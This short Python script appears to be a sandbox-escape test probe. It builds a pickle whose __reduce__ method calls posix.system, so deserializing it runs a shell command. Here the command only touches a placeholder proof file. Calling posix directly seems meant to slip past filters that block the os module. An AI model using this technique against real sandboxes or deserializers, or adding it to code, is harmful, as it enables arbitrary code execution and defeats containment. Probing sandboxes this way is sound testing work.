# a pickle that calls below os
import pickle, posix
class Evil:
    def __reduce__(self):
        return posix.system, ('touch {{PROOF}}',)
if pickle.loads(pickle.dumps(Evil())) == 0:
    print('ESCAPED: shell')
